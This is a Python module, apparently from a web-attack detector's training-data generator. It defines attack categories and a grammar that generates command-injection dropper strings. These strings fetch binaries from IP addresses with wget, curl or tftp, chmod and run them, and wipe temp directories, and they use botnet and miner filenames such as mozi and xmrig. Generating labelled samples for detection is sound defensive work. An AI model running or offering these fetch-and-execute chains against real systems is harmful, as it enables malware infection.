"""Payloads that everybody quotes, sent as they stand; and the chains by which bots fetch and run a program.

Logs, tickets and lessons quote the same few payloads over and over
(``normal/payloads``). Without this twin their words would be learned as
harmless, wherever they stand.
"""

from __future__ import annotations

from random import Random

from securitai.train.corpora.kinds import BODY, COOKIE, HEADER, NAME, VALUE, AttackKind, Maker
from securitai.train.corpora.normal.grammar import grammar
from securitai.train.corpora.normal.payloads import QUOTED
from securitai.verdict import Category

_G = grammar(
    r"""
@dropper
  ×4 ‹chain›
  ×2 ;‹=/ ›‹chain›
  ×2 ‹=|/||/&&/&/%0a/;/`/$(›‹=/ ›‹chain›‹=/ #/;/ &/ |/)/`›
  $(‹chain›)
  `‹chain›`
  ;$(‹chain›)
  ;`‹chain›`
  ‹=127.0.0.1/‹ip›/‹host›/‹slug›/‹int›/a@b.c›‹=;/ ; /|/ | /&&/ && /`/$(/%0a›‹chain›‹=/;/`/)/ #›
  "‹=;/|/ && ›‹chain›‹=;/#/ ›"
  '‹=;/|/ && ›‹chain›‹=;/#/ ›'
  sh -c "‹chain›"
  /bin/‹=sh/bash/busybox sh› -c '‹chain›'
@chain
  ×3 cd ‹tmp›‹j›‹get›‹j›‹run›
  ×2 cd ‹tmp›‹j›rm -rf ‹=*/‹tmp›∕*/‹bin››‹j›‹get›‹j›‹run›
  ×2 ‹get›‹j›‹run›
  cd ‹tmp› || cd ‹tmp›‹=/ || cd ‹tmp››‹j›‹get›‹j›‹get›‹j›‹run›
  ‹get›‹j›chmod ‹mode› ‹bin›‹j›./‹bin›‹=/ ‹slug›/ &›
  rm -rf ‹tmp›/‹bin›‹j›‹get› -O ‹tmp›/‹bin›‹j›‹run›
  ‹get›
  wget‹=/ -q/ -qO-/ -O-/ -qO -› ‹from›‹=/ -O-› | ‹=sh/bash/∕bin∕sh/sudo bash/perl/python›
  curl‹=/ -s/ -fsSL/ -sk› ‹from› | ‹=sh/bash/∕bin∕sh/bash -s/python3›
  (‹=curl -s/wget -q -O-/curl -fsSL› ‹from› || ‹=wget -q -O-/curl -s› ‹from›)|‹=bash/sh›
  nohup ‹=sh/bash› -c "$(curl -s ‹from›)" &
  bash <(curl -s ‹from›)
@get
  ×3 ‹=/‹box›/∕usr∕bin∕›wget‹=/ -q/ --no-check-certificate/ -g/ -c› ‹from›
  ×2 ‹=/‹box›/∕usr∕bin∕›curl‹=/ -s/ -k/ -fsSL› ‹=-O ‹from›/‹from› -o ‹bin›/‹from› > ‹bin››
  ‹box›tftp -g -r ‹bin› ‹ip›
  ‹box›tftp ‹ip› -c get ‹bin›
  ‹box›ftpget -v -u ‹slug› -P ‹int› ‹ip› ‹bin› ‹bin›
  ‹=lwp-download/fetch/axel/scp ‹slug›@› ‹from›
@box
  ‹=busybox / ∕bin∕busybox /∕bin∕busybox /sudo ›
@run
  ×3 ‹=sh/bash/∕bin∕sh/∕bin∕bash/ash› ‹bin›
  ×2 chmod ‹mode› ‹bin›‹j›./‹bin›
  chmod ‹mode› ‹tmp›/‹bin›‹j›‹tmp›/‹bin›‹=/ ‹slug››
  sh ‹tmp›/‹bin›
  ./‹bin› &
  ‹=perl/python/php› ‹bin›
@from
  ×3 http://‹ip›/‹bin›
  ×2 http://‹ip›:‹port›/‹bin›
  ×2 ‹ip›/‹bin›
  http://‹ip›/‹slug›/‹bin›
  http://‹host›:‹port›/‹bin›
@bin
  ×2 ‹pseudo›
  ×2 ‹pseudo›.sh
  ×2 ‹letter›‹=/‹letter›/‹digit››
  ‹letter›.sh
  ‹=jaws/bins.sh/mozi.m/mozi.a/arm7/mips/mpsl/x86/x86_64/i.sh/s.sh/run.sh/setup.sh/update.sh/install.sh/xmrig/kinsing/d.sh/8UsA.sh/shell.pl/bot.py/a.elf›
@mode
  ‹=777/+x/755/0777/a+x/+777›
@tmp
  ×3 /tmp
  ‹=∕var∕tmp/∕var∕run/∕dev∕shm/∕mnt/∕root/∕var/∕›
@j
  ×3 ;
  ×3 ;‹blank›
  ×2 ‹blank›&&‹blank›
  ‹=&&/||/ || /|/%3B/&/⏎›
@blank
  ‹= / / / /+/${IFS}›
"""
)


_AROUND = grammar(
    r"""
@before
  ×3 ‹word›
  ×3 ‹int›
  ‹=‹user›/‹slug›/‹email›/‹words›/%/-1/x/'/"/)/>/">/'>/,/;›
@behind
  ×3 ‹int›
  ×2 ‹word›
  ‹=;/)/,/ #/ --/ //&‹slug›=‹int›/ ‹word›/?‹slug›=‹int›/ ›
"""
)
_BEFORE, _BEHIND = _AROUND.make("before"), _AROUND.make("behind")


def _sent(rule: str) -> Maker:
    """A quoted payload alone, or with a little before or behind it."""
    make = QUOTED.make(f"pay_{rule}")

    def one(rng: Random) -> str:
        text, roll = make(rng), rng.random()
        if roll < 0.5:
            return text
        return _BEFORE(rng) + text if roll < 0.75 else text + _BEHIND(rng)

    return one


_PLACES = (VALUE, HEADER, COOKIE, BODY)
KINDS = (
    AttackKind("commonplace.sqli", Category.SQLI, _sent("sqli"), 4.0, (VALUE, COOKIE, HEADER)),
    AttackKind("commonplace.xss", Category.XSS, _sent("xss"), 4.0, (VALUE, COOKIE, HEADER)),
    AttackKind("commonplace.path", Category.PATH_TRAVERSAL, _sent("path"), 3.0),
    AttackKind("commonplace.cmdi", Category.CMDI, _sent("cmdi"), 4.0, (VALUE, COOKIE, HEADER)),
    AttackKind("commonplace.ssti", Category.SSTI, _sent("ssti"), 1.0),
    AttackKind(
        "commonplace.log4shell", Category.LOG4SHELL, _sent("log4shell"), 0.6, (VALUE, HEADER)
    ),
    AttackKind("commonplace.shellshock", Category.SHELLSHOCK, _sent("shellshock"), 0.6, (HEADER,)),
    AttackKind("commonplace.ldapi", Category.LDAPI, _sent("ldapi"), 0.5),
    AttackKind("commonplace.code", Category.CODE_INJECTION, _sent("code"), 1.0, (VALUE, BODY)),
    AttackKind(
        "commonplace.proto", Category.PROTOTYPE_POLLUTION, _sent("proto"), 0.5, (VALUE, NAME)
    ),
    AttackKind("commonplace.dropper", Category.CMDI, _G.make("dropper"), 3.0, (*_PLACES, NAME)),
)
